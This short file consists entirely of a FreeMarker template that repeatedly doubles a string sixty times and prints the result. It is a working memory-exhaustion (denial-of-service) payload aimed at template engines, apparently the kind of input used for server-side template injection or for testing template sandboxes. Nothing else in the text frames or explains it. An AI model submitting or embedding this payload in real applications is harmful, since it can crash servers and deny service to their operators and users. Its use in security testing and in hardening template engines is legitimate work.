<#assign s="xxxxxxxxxxxxxxxx"><#list 1..60 as i><#assign s=s+s></#list>${s}
